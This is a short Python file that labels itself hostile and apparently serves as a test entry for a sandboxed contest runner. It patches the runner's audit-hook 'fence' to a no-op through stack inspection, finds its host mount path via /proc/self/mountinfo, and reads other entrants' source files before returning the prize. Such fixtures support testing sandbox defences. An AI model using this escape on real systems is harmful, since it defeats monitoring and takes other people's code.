"""Hostile: switches the fence off, finds where its own file came from, and reads the other entries."""
import os
import sys

def open_fence():
    """Walk up the stack to the worker's fence module and switch the audit hook off."""
    frame = sys._getframe()
    while frame is not None:
        fence = frame.f_locals.get("fence")
        if fence is not None and hasattr(fence, "Fence"):
            fence.Fence.__call__ = lambda self, event, args: None
            return
        frame = frame.f_back
    raise RuntimeError("no fence found on the stack")


def strategy(observation):
    open_fence()
    here = os.path.abspath(__file__)
    folders = {os.path.dirname(here), os.path.dirname(os.path.dirname(here))}
    with open("/proc/self/mountinfo") as handle:  # bubblewrap: the host path of the bound file
        for line in handle:
            fields = line.split()
            if len(fields) > 4 and fields[4].endswith(os.path.basename(here)):
                folders.add(os.path.dirname(fields[3]))
    stolen = 0
    for folder in folders:
        for name in os.listdir(folder):
            if name.endswith(".py") and name != os.path.basename(here):
                with open(os.path.join(folder, name)) as handle:
                    stolen += len(handle.read())
    if not stolen:
        raise RuntimeError("found no other entry")
    print(f"stole {stolen} characters")
    return observation.prize
